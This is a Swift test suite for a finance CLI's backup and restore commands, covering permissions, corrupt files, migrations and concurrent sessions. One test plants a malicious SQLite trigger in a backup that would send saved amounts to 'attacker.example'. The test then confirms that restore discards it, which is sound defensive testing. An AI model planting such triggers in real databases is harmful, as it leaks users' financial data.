import Foundation
import Testing

/// `backup` and `restore` through the binary: the copy is a private, sound Coffer store of
/// a state that existed; a restore checks its file before it touches the store, refuses
/// anything unsound naming why, and other sessions see it as another session's save.
@Suite struct BackupRestoreTests {
  let coffer: CofferProcess
  let database: String

  init() throws {
    coffer = try CofferProcess()
    database = coffer.home + "/coffer.db"
  }

  func run(_ commands: String, db: String? = nil) throws -> Outcome {
    try coffer.run(["--db", db ?? database, "-c", commands])
  }

  func sqlite(_ path: String, _ sql: String) throws -> Outcome {
    try coffer.run([path, sql], binary: "/usr/bin/sqlite3")
  }

  func shell(_ command: String) throws -> Outcome {
    try coffer.run(["-c", command], binary: "/bin/sh")
  }

  /// Every row of a store, as the sqlite3 shell dumps it: what "unchanged" means here.
  func contents(_ path: String) throws -> String {
    let dump = try sqlite(path, ".dump")
    #expect(dump.status == 0, "\(dump)")
    return dump.stdout
  }

  func mode(_ path: String) throws -> Int? {
    try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int
  }

  /// The files in the sandbox whose names start with `prefix`.
  func files(startingWith prefix: String) throws -> [String] {
    try FileManager.default.contentsOfDirectory(atPath: coffer.home).filter { $0.hasPrefix(prefix) }.sorted()
  }

  // MARK: - Backup

  @Test func aBackupIsAPrivateSoundCopyThatLeavesNothingElse() throws {
    #expect(try run("set USD 1200; set KWD 0.125; rates set JPY 0.05; local HKD").status == 0)
    let backup = coffer.home + "/copy.db"
    // Even with a umask that would let anyone read a new file.
    let outcome = try shell("umask 000; '\(CofferProcess.binary)' --db \(database) -c 'backup copy.db'")
    #expect(outcome == Outcome(stdout: "backed up the store to \(backup)\n", stderr: "", status: 0))
    #expect(try mode(backup) == 0o600)
    // One self-contained file (rollback journal, not WAL) and nothing beside it.
    #expect(try sqlite(backup, "PRAGMA journal_mode").stdout == "delete\n")
    #expect(try files(startingWith: "copy.db") == ["copy.db"])
    #expect(try contents(backup) == contents(database))
    let opened = try run("check; holdings --format plain; local", db: backup)
    #expect(opened.status == 0, "\(opened)")
    #expect(opened.stdout.contains("is sound"))
    #expect(opened.stdout.hasSuffix("USD 1200\nKWD 0.125\nHKD Hong Kong Dollar 港币\n"), "\(opened.stdout)")
  }

  @Test func pendingEditsAreSavedBeforeTheCopy() throws {
    let outcome = try run("set USD 5; rates set GBP 9.1; backup b.db; set USD 6")
    #expect(outcome.status == 0, "\(outcome)")
    #expect(try run("print amount(USD) rate(GBP)", db: coffer.home + "/b.db").stdout == "5\n9.1\n")
    #expect(try run("print amount(USD)").stdout == "6\n")
  }

  @Test func aBackupWhosePendingSaveFailsIsNotMade() throws {
    #expect(try run("set USD 1").status == 0)
    // --keep-going: a failed statement must not end the session this test writes to.
    let live = try coffer.start(["--db", database, "--keep-going"])
    live.send("set USD 3; echo typed")
    #expect(live.waitFor("the edit") { $0.stdout == "typed\n" })
    // Another session saves USD meanwhile: this one's save is a conflict.
    #expect(try run("set USD 2").status == 0)
    live.send("backup b.db")
    #expect(live.waitFor("the refusal") { $0.stderr.contains("no backup was made") })
    #expect(
      live.stderr.contains(
        "no backup was made: the pending edits could not be saved first: conflict: another session saved USD = 2 (yours: 3)"
      ), "\(live.stderr)")
    #expect(!FileManager.default.fileExists(atPath: coffer.home + "/b.db"))
    live.send("save --force; backup b.db")
    // 1: a statement failed on the way (--keep-going).
    #expect(live.finish() == 1)
    #expect(try run("print amount(USD)", db: coffer.home + "/b.db").stdout == "3\n")
  }

  @Test func anExistingFileIsReplacedOnlyWithForce() throws {
    #expect(try run("set USD 1; backup b.db").status == 0)
    #expect(try run("set USD 2").status == 0)
    let backup = coffer.home + "/b.db"
    let refused = try run("backup b.db")
    #expect(
      refused
        == Outcome(
          stdout: "",
          stderr: "<command>:1:8: error: \(backup) exists; 'backup --force' replaces it; no backup was made\n",
          status: 1))
    #expect(try run("print amount(USD)", db: backup).stdout == "1\n")
    // A file others could read is replaced by a private one.
    #expect(chmod(backup, 0o644) == 0)
    #expect(try run("backup --force b.db").status == 0)
    #expect(try run("print amount(USD)", db: backup).stdout == "2\n")
    #expect(try mode(backup) == 0o600)
    // No partial file left; SQLite's log (empty) and shared memory stay beside b.db since
    // it was opened as a store above.
    #expect(try files(startingWith: "b.db") == ["b.db", "b.db-shm", "b.db-wal"])
    #expect(try FileManager.default.attributesOfItem(atPath: backup + "-wal")[.size] as? Int == 0)
  }

  @Test(arguments: ["coffer.db", "coffer.db-wal", "coffer.db-shm", "coffer.db-journal", "./sub/../coffer.db"])
  func theStoreAndSQLitesFilesAreNeverWrittenOver(name: String) throws {
    try FileManager.default.createDirectory(atPath: coffer.home + "/sub", withIntermediateDirectories: true)
    #expect(try run("set USD 7").status == 0)
    let before = try contents(database)
    let outcome = try run("backup \(name) --force; rates export \(name)")
    #expect(outcome.status == 1)
    #expect(outcome.stderr.contains("is the store itself or one of SQLite's files beside it"), "\(outcome)")
    #expect(try contents(database) == before)
    #expect(try run("check").status == 0)
  }

  @Test func aHardLinkToTheStoreIsTheStore() throws {
    #expect(try run("set USD 7").status == 0)
    #expect(link(database, coffer.home + "/alias.db") == 0)
    let outcome = try run("backup alias.db --force")
    #expect(outcome.stderr.contains("alias.db is the store itself"), "\(outcome)")
    #expect(try run("print amount(USD)").stdout == "7\n")
  }

  @Test func aMissingFolderAFolderAndADeviceAreRefused() throws {
    #expect(try run("set USD 7").status == 0)
    let outcome = try coffer.run(
      ["--db", database, "--keep-going", "-c", "backup nowhere/b.db\nbackup /tmp --force\nbackup /dev/null --force"])
    #expect(
      outcome.stderr == """
        <command>:1:8: error: cannot write \(coffer.home)/nowhere/b.db: the folder \(coffer.home)/nowhere does not exist; no backup was made
        <command>:2:8: error: /tmp is a folder; no backup was made
        <command>:3:8: error: /dev/null is not a regular file; no backup was made

        """)
    #expect(outcome.status == 1)
  }

  @Test func aPathWithBlanksIsQuotedAndOptionsGoAnywhere() throws {
    try FileManager.default.createDirectory(atPath: coffer.home + "/my files", withIntermediateDirectories: true)
    #expect(try run("set USD 7; backup \"my files/b.db\"; backup --force 'my files/b.db'").status == 0)
    #expect(try run("print amount(USD)", db: coffer.home + "/my files/b.db").stdout == "7\n")
    let unquoted = try run("backup my files/b2.db")
    #expect(unquoted.stderr.contains("unexpected"), "\(unquoted)")
    #expect(!FileManager.default.fileExists(atPath: coffer.home + "/my"))
  }

  @Test func backupAndRestoreAreRefusedInAnAtomicRun() throws {
    #expect(try run("set USD 1; backup b.db").status == 0)
    let outcome = try coffer.run(["--db", database, "--atomic", "-c", "set USD 2; backup c.db"])
    #expect(outcome.status == 1)
    #expect(outcome.stderr.contains("backup cannot run in an --atomic run"), "\(outcome)")
    let restore = try coffer.run(["--db", database, "--atomic", "-c", "restore b.db"])
    #expect(restore.stderr.contains("restore cannot run in an --atomic run"), "\(restore)")
    #expect(try run("print amount(USD)").stdout == "1\n")
    #expect(!FileManager.default.fileExists(atPath: coffer.home + "/c.db"))
  }

  /// A dump describes what is saved: inside an --atomic run, which saves nothing until it
  /// ends (and nothing at all after an error), it is refused. It used to write the run's
  /// edits into the file, then save nothing.
  @Test func aDumpIsRefusedInAnAtomicRun() throws {
    #expect(try run("set USD 1").status == 0)
    for script in ["set USD 4242; dump d.coffer; bogus", "set USD 4242; dump d.coffer", "dump"] {
      let outcome = try coffer.run(["--db", database, "--atomic", "-c", script])
      #expect(outcome.status == 1, "\(script): \(outcome)")
      #expect(outcome.stderr.contains("dump cannot run in an --atomic run"), "\(outcome)")
      #expect(!outcome.stdout.contains("4242"))
      #expect(!FileManager.default.fileExists(atPath: coffer.home + "/d.coffer"))
    }
    #expect(try run("print amount(USD)").stdout == "1\n")
  }

  // MARK: - Restore

  @Test func aRestoreBringsBackEverythingTheBackupHeld() throws {
    #expect(try run("set USD 1200; set EUR 300; rates set JPY 0.05; backup b.db").status == 0)
    let backedUp = try contents(database)
    #expect(try run("set USD 1; clear EUR; set GBP 2; rates set JPY 0.07; local USD").status == 0)
    let outcome = try run("restore b.db; holdings --format plain; local; print rate(JPY)")
    #expect(
      outcome.stdout == """
        restored the store from \(coffer.home)/b.db: 2 holdings, rates on 3 days, 2 journal entries
        USD 1200
        EUR 300
        CNY Chinese Yuan 人民币
        0.05

        """)
    #expect(outcome.status == 0, "\(outcome)")
    // Row for row the backup's, but for the rates revision moved on (so every session
    // reads the rates again) and the local currency written out.
    let restored = try contents(database)
    // The month cache is derived from the journal, and built again from the rows taken.
    let ignored: (Substring) -> Bool = {
      $0.contains("rates_revision") || $0.contains("'local'") || $0.hasPrefix("INSERT INTO journal_month_cache")
    }
    #expect(
      restored.split(separator: "\n").filter { !ignored($0) } == backedUp.split(separator: "\n").filter { !ignored($0) }
    )
    #expect(try run("check").status == 0)
  }

  /// A backup is data: a trigger, view, table or index another program put in the file
  /// is left behind, and so is a trigger of Coffer's that the file dropped or rewrote (the
  /// restored store has this Coffer's own). Before, a trigger in the file came along and
  /// sent each saved amount to a URL at the next `rates fetch`.
  @Test func aRestoreTakesRowsAndNeverTheFilesCode() throws {
    #expect(try run("set USD 100; set EUR 5 at 2026-10-31; backup b.db").status == 0)
    let backup = coffer.home + "/b.db"
    let planted = try sqlite(
      backup,
      """
      CREATE TRIGGER evil AFTER INSERT ON journal BEGIN
        INSERT INTO rate_source (name, url, currencies)
          VALUES ('x' || new.id, 'http://attacker.example/?' || new.code || '=' || new.new, 'USD');
      END;
      CREATE VIEW peek AS SELECT * FROM holding;
      CREATE TABLE extra (x);
      CREATE INDEX journal_extra ON journal (new);
      DROP TRIGGER journal_inserted;
      """)
    #expect(planted.status == 0, "\(planted)")
    let outcome = try run("restore b.db; set USD 4242.42; save; rates sources")
    #expect(outcome.status == 0, "\(outcome)")
    #expect(
      outcome.stdout.hasPrefix(
        "restored the store from \(backup): 2 holdings, rates on 2 days, 2 journal entries; "
          + "left out what is not Coffer's: index journal_extra, table extra, trigger evil, view peek\n"),
      "\(outcome.stdout)")
    #expect(!outcome.stdout.contains("attacker"))
    let objects = try sqlite(database, "SELECT type || ' ' || name FROM sqlite_master ORDER BY 1").stdout
    for foreign in ["evil", "peek", "extra", "journal_extra"] { #expect(!objects.contains(foreign), "\(objects)") }
    #expect(objects.contains("trigger journal_inserted"), "\(objects)")
    // The month ends are kept by this Coffer's triggers again: a series agrees with the
    // dated totals after a new entry.
    let later = try run(
      "set EUR 7 at 2026-11-10; total by month from 2026-10-31 to 2026-11-22 --format csv; "
        + "print total_at(2026-10-31) total_at(2026-11-22)")
    #expect(later.status == 0, "\(later)")
    let lines = later.stdout.split(separator: "\n")
    let totals = lines.suffix(2)
    #expect(totals.first != "0" && totals.first != totals.last, "\(later.stdout)")
    #expect(lines.contains { $0.hasPrefix("2026-10-31,\(totals.first ?? "")") }, "\(later.stdout)")
    #expect(lines.contains { $0.hasPrefix("2026-11-22,\(totals.last ?? "")") }, "\(later.stdout)")
    #expect(try run("check").status == 0)
  }

  @Test func aRestoreIsRefusedWhileEditsArePending() throws {
    #expect(try run("set USD 1; backup b.db").status == 0)
    let before = try contents(database)
    let outcome = try run("set USD 2; rates set EUR 7.9; restore b.db")
    #expect(
      outcome.stderr.hasPrefix(
        "<command>:1:39: error: restore refused: 2 unsaved edits would be lost (set USD 2; rates set EUR 7.9); "
          + "'save' first, or leave with 'quit!' to drop them\n"), "\(outcome)")
    #expect(outcome.status == 1)
    // The script's end saved the edits, as it does after any failed statement.
    #expect(try run("print amount(USD)").stdout == "2\n")
    #expect(before != (try contents(database)))
  }

  @Test func theBalanceHistoryGoesRoundAndADatedEditHoldsARestoreBack() throws {
    #expect(try run("set USD 100 at 2025-06-30; set USD 200; backup b.db").status == 0)
    #expect(try run("set USD 300 at 2025-06-30; set USD 1").status == 0)
    let refused = try run("set EUR 3 at 2025-01-01; restore b.db")
    #expect(refused.stderr.contains("(set EUR 3 at 2025-01-01)"), "\(refused)")
    let outcome = try run("clear EUR at 2025-01-01; save; restore b.db; print amount(USD); log --format csv")
    #expect(outcome.status == 0, "\(outcome)")
    let log = outcome.stdout.split(separator: "\n").dropFirst(2).map {
      $0.split(separator: ",", omittingEmptySubsequences: false).prefix(5).joined(separator: ",")
    }
    #expect(outcome.stdout.split(separator: "\n").dropFirst().first == "200")
    #expect(log == ["effective,code,place,old,new", "2026-11-22,USD,,100,200", "2025-06-30,USD,,0,100"], "\(outcome)")
    #expect(try run("check").status == 0)
  }

  @Test func restoreIsTypedAtTheTopLevelOnly() throws {
    #expect(try run("set USD 1; backup b.db").status == 0)
    let outcome = try run("open --lines; restore b.db")
    #expect(outcome.stderr.contains("the sheet is already open"), "\(outcome)")
  }

  /// Files that are not a sound Coffer store this Coffer reads, each made from a good
  /// backup; the error each must give.
  static let badFiles: [(name: String, make: String, error: String)] = [
    (
      "foreign", "sqlite3 FILE 'CREATE TABLE notes (text)'",
      "is not a Coffer store: it is another application's SQLite database (tables notes)"
    ),
    (
      "marked", "sqlite3 FILE 'PRAGMA application_id = 7; CREATE TABLE t (x)'",
      "it is another application's SQLite database (application_id 0x7)"
    ),
    (
      "newer", "cp GOOD FILE && sqlite3 FILE 'PRAGMA user_version = 13'",
      "it was made by a newer Coffer (schema 13; this one knows up to 12)"
    ),
    ("empty", ": > FILE", "is empty: not a Coffer store"),
    ("text", "echo 'set USD 5' > FILE", "is not a Coffer store: it is not a SQLite database"),
    ("header", "head -c 100 GOOD > FILE", "cannot read"),
    ("first-page", "head -c 4096 GOOD > FILE", "it is damaged or cut short"),
    ("half", "head -c $(( $(stat -c %s GOOD) / 2 )) GOOD > FILE", "it is damaged or cut short"),
    ("last-byte", "head -c $(( $(stat -c %s GOOD) - 1 )) GOOD > FILE", "it is damaged or cut short"),
    (
      "page", "cp GOOD FILE && printf 'garbage%.0s' $(seq 200) | dd of=FILE bs=1 seek=8192 conv=notrunc 2>/dev/null",
      "not a sound Coffer store: SQLite's integrity check found"
    ),
    (
      "row", "cp GOOD FILE && sqlite3 FILE \"UPDATE journal SET new = '1,200' WHERE code = 'USD'\"",
      "journal row 1: new '1,200' is not a number"
    ),
    (
      // A row the file's own schema, rewritten, let in: the refusal names it.
      "check",
      "cp GOOD FILE && sqlite3 FILE \"PRAGMA writable_schema = ON; UPDATE sqlite_schema SET sql = "
        + "replace(sql, 'CHECK (move BETWEEN 0 AND 2)', '') WHERE name = 'journal'\" "
        + "&& sqlite3 FILE \"UPDATE journal SET move = 7 WHERE code = 'USD'\"",
      "journal row 1 is not as Coffer writes one (CHECK constraint failed: move BETWEEN 0 AND 2)"
    ),
    (
      "page-count", "cp GOOD FILE && printf '\\177\\377\\377\\000' | dd of=FILE bs=1 seek=28 conv=notrunc 2>/dev/null",
      "it is damaged or cut short"
    ),
    ("missing", "true", "does not exist"),
    ("folder", "mkdir FILE", "is a folder"),
    // A named pipe is refused at once: opened to be read, it would wait for a writer.
    ("fifo", "mkfifo FILE", "is not a regular file"),
  ]

  @Test(arguments: badFiles.map(\.name))
  func aBadFileIsRefusedAndNothingChanges(name: String) throws {
    let bad = try #require(Self.badFiles.first { $0.name == name })
    // A good backup with a history, then the store moved on.
    #expect(
      try run("rates import \(CofferProcess.fixtures)/ecb-daily-2026-10-30.csv; set USD 3; backup good.db").status == 0)
    #expect(try run("set USD 4; set EUR 1").status == 0)
    let file = coffer.home + "/\(name).db"
    let made = try shell(
      bad.make.replacingOccurrences(of: "GOOD", with: coffer.home + "/good.db").replacingOccurrences(
        of: "FILE", with: file))
    #expect(made.status == 0, "\(made)")
    let before = try contents(database)
    let outcome = try run("restore \(name).db")
    #expect(outcome.status == 1, "\(outcome)")
    #expect(outcome.stderr.hasPrefix("<command>:1:9: error: "), "\(outcome)")
    #expect(outcome.stderr.contains(bad.error), "\(outcome.stderr)")
    #expect(outcome.stderr.hasSuffix("; the store was not changed\n"), "\(outcome.stderr)")
    #expect(try contents(database) == before)
    #expect(try run("print amount(USD) amount(EUR)").stdout == "4\n1\n")
    // Nothing was made beside the file either.
    #expect(try files(startingWith: "\(name).db") == (["missing"].contains(name) ? [] : ["\(name).db"]))
  }

  @Test func aRestoreFromAnOlderSchemaIsMigratedAndTheFileLeftAsItIs() throws {
    let old = coffer.home + "/v4.db"
    let made = try sqlite(
      old,
      """
      PRAGMA application_id = 1131374182; PRAGMA user_version = 4;
      CREATE TABLE grdb_migrations (identifier TEXT NOT NULL PRIMARY KEY);
      INSERT INTO grdb_migrations VALUES ('v1: holdings, rates, settings'), ('v2: journal'),
        ('v3: rates as one snapshot per day'), ('v4: rate sources; direct quotes in the day snapshots');
      CREATE TABLE holding (code TEXT PRIMARY KEY NOT NULL, amount TEXT NOT NULL);
      CREATE TABLE setting (key TEXT PRIMARY KEY NOT NULL, value TEXT NOT NULL);
      CREATE TABLE journal (
        id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL, code TEXT NOT NULL, old TEXT NOT NULL,
        new TEXT NOT NULL);
      CREATE INDEX journal_code ON journal (code, id);
      CREATE TABLE rate_day (day INTEGER PRIMARY KEY, rates BLOB NOT NULL);
      CREATE TABLE rate_source (
        position INTEGER PRIMARY KEY, name TEXT NOT NULL UNIQUE, url TEXT NOT NULL, currencies TEXT NOT NULL);
      INSERT INTO holding VALUES ('USD', '200');
      INSERT INTO setting VALUES ('local', 'HKD');
      INSERT INTO journal (time, code, old, new) VALUES ('2025-06-30 23:30:00', 'USD', '0', '100'),
        ('2025-07-01 08:00:00', 'USD', '100', '200');
      """)
    #expect(made.status == 0, "\(made)")
    let bytes = try Data(contentsOf: URL(fileURLWithPath: old))
    #expect(try run("set GBP 1").status == 0)
    let outcome = try coffer.run(
      ["--db", database, "-c", "restore v4.db; holdings --format plain; local; log --format csv"],
      extraEnvironment: ["TZ": "Asia/Shanghai"])
    #expect(
      outcome.stdout == """
        restored the store from \(old): 1 holding, rates on 0 days, 2 journal entries (it was schema 4, brought up to 12; the file is unchanged)
        USD 200
        HKD Hong Kong Dollar 港币
        effective,code,place,old,new,entered
        2025-07-01,USD,,100,200,2025-07-01T08:00:00+08:00
        2025-06-30,USD,,0,100,2025-06-30T23:30:00+08:00

        """)
    #expect(outcome.stderr == "", "\(outcome)")
    #expect(try Data(contentsOf: URL(fileURLWithPath: old)) == bytes)
    #expect(try files(startingWith: "v4.db") == ["v4.db"])
    #expect(try sqlite(database, "PRAGMA user_version").stdout == "12\n")
    #expect(try run("check").status == 0)
  }

  @Test func aWALModeFileIsReadWithoutMakingFilesBesideIt() throws {
    // A store copied with cp after it was closed: WAL mode, no -wal beside it.
    #expect(try run("set USD 9", db: coffer.home + "/other.db").status == 0)
    #expect(try shell("cp other.db copied.db").status == 0)
    #expect(try sqlite(coffer.home + "/copied.db", "PRAGMA journal_mode").stdout == "wal\n")
    #expect(try shell("rm -f copied.db-wal copied.db-shm").status == 0)
    #expect(try run("restore copied.db; print amount(USD)").stdout.hasSuffix("\n9\n"))
    #expect(try files(startingWith: "copied.db") == ["copied.db"])
  }

  @Test func aStoreOpenInAnotherSessionIsRestoredFromAndItsSavesAreSeen() throws {
    // The file restored from is a live store another session keeps open and saves to:
    // its WAL is read, so its latest save is what is restored.
    let other = coffer.home + "/live.db"
    let live = try coffer.start(["--db", other])
    live.send("set USD 5; save; echo saved")
    #expect(live.waitFor("the save") { $0.stdout.contains("saved") })
    #expect(try run("restore live.db; print amount(USD)").stdout.hasSuffix("\n5\n"))
    #expect(live.finish() == 0)
  }

  @Test func anotherSessionSeesARestoreAsAnotherSessionsSave() throws {
    #expect(try run("set USD 100; rates set JPY 0.05; backup b.db").status == 0)
    #expect(try run("set USD 1; rates set JPY 0.07; local HKD").status == 0)
    let live = try coffer.start(["--db", database])
    live.send("print amount(USD); local")
    #expect(live.waitFor("the first answer") { $0.stdout == "1\nHKD Hong Kong Dollar 港币\n" })
    // Its own edit of another currency stays pending across the restore.
    live.send("set GBP 3")
    #expect(try run("restore b.db").status == 0)
    live.send("print amount(USD) rate(JPY) amount(GBP); local")
    #expect(
      live.waitFor("the restored store") {
        $0.stdout == "1\nHKD Hong Kong Dollar 港币\n100\n0.05\n3\nCNY Chinese Yuan 人民币\n"
      })
    #expect(live.finish() == 0)
    #expect(live.stderr == "")
    #expect(try run("print amount(USD) amount(GBP)").stdout == "100\n3\n")
  }

  @Test func aBackupIsLookedIntoThroughAStoreInMemoryWithoutTouchingIt() throws {
    #expect(try run("set USD 100; rates set JPY 0.05; backup b.db").status == 0)
    let backup = coffer.home + "/b.db"
    let bytes = try Data(contentsOf: URL(fileURLWithPath: backup))
    let outcome = try run("set GBP 1; save; restore b.db; holdings --format plain; print rate(JPY)", db: ":memory:")
    #expect(outcome.stdout.hasSuffix("\nUSD 100\n0.05\n"), "\(outcome)")
    #expect(try Data(contentsOf: URL(fileURLWithPath: backup)) == bytes)
    #expect(try files(startingWith: "b.db") == ["b.db"])
  }

  @Test func aRestoreMakesANewStoreFromABackup() throws {
    #expect(try run("set USD 100; backup b.db").status == 0)
    let fresh = coffer.home + "/fresh.db"
    #expect(try run("restore b.db; total", db: fresh).stdout.hasSuffix(" (1 holding)\n"))
    #expect(try run("check", db: fresh).status == 0)
  }

  // MARK: - A full disk (root: a tmpfs of its own in a private mount namespace)

  @Test(.enabled(if: getuid() == 0, "needs root to mount a tmpfs for a full disk"))
  func aBackupToAFullDiskFailsAndLeavesNothing() throws {
    let folder = coffer.home + "/small"
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    #expect(try run("rates import \(CofferProcess.fixtures)/eurofxref-hist.zip; set USD 5").status == 0)
    let before = try contents(database)
    let binary = CofferProcess.binary
    let outcome = try shell(
      """
      exec unshare -m sh -c '
        mount -t tmpfs -o size=256k tmpfs \(folder) || exit 90
        \(binary) --db \(database) -c "backup \(folder)/b.db"; echo "status $?"
        ls -A \(folder)
      '
      """)
    #expect(
      outcome
        == Outcome(
          stdout: "status 1\n",
          stderr: "<command>:1:8: error: the disk holding \(folder)/b.db is full; no backup was made\n", status: 0))
    #expect(try contents(database) == before)
  }

  @Test(.enabled(if: getuid() == 0, "needs root to mount a tmpfs for a full disk"))
  func aRestoreOntoAFullDiskFailsAndTheStoreStaysAsItWas() throws {
    let folder = coffer.home + "/small"
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    #expect(try run("rates import \(CofferProcess.fixtures)/eurofxref-hist.zip; set USD 5; backup big.db").status == 0)
    let binary = CofferProcess.binary
    let outcome = try shell(
      """
      exec unshare -m sh -c '
        mount -t tmpfs -o size=400k tmpfs \(folder) || exit 90
        \(binary) --db \(folder)/c.db -c "set GBP 1" || exit 91
        \(binary) --db \(folder)/c.db -c "restore \(coffer.home)/big.db"; echo "status $?"
        \(binary) --db \(folder)/c.db -c "check; holdings --format plain"
      '
      """)
    #expect(outcome.stdout.hasPrefix("status 3\nthe store \(folder)/c.db is sound"), "\(outcome)")
    #expect(outcome.stdout.hasSuffix("GBP 1\n"), "\(outcome)")
    #expect(
      outcome.stderr
        == "<command>:1:9: error: the disk holding \(folder)/c.db is full\n"
        + "note: rates as old as 2026-10-30 (23 days) for CNY, GBP\n", "\(outcome)")
  }
}
